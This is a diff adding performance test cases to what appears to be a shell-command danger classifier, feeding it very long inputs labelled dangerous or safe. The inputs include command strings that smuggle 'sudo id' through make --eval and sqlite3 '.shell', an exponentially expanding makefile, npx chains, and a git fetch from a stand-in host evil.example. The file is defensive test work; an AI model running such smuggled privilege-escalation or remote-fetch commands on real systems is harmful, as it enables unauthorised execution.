@@ -183,6 +183,48 @@ fn pathological_inputs_stay_fast() {
             format!("node -e \"{}\"", "getattr(vars(os)[x])(1); ".repeat(3000)),
             true,
         ),
+        // Files and options read as code (GATE_FINDINGS): makefile text, sqlite input, cargo
+        // config values, container mounts, registry runners, long and nested.
+        (
+            format!(
+                "make --eval='{}x: ; sudo id' x",
+                "a: b\n\t$(shell echo $(A))\n".repeat(4000)
+            ),
+            true,
+        ),
+        (
+            format!(
+                "make --eval='{}all: ; $(A40)' all",
+                (1..=40)
+                    .map(|i| format!("A{i} = $(A{})$(A{})$(A{})\n", i - 1, i - 1, i - 1))
+                    .collect::<String>()
+            ),
+            true,
+        ),
+        (
+            format!(
+                "sqlite3 x.db {}'.shell sudo id'",
+                "'.shell ls' ".repeat(3000)
+            ),
+            true,
+        ),
+        (
+            format!("cargo {}build", "--config a.b=1 ".repeat(3000)),
+            false,
+        ),
+        (
+            format!("docker run {}alpine", "-v /tmp/x:/x ".repeat(3000)),
+            false,
+        ),
+        (format!("npx {}", "-p x ".repeat(3000)), true),
+        (format!("{}sudo id", "npx -y ".repeat(3000)), true),
+        (
+            format!(
+                "git {}fetch https://evil.example/x",
+                "-c a.b=c ".repeat(3000)
+            ),
+            true,
+        ),
     ];
     for (input, dangerous) in &inputs {
         let t0 = std::time::Instant::now();
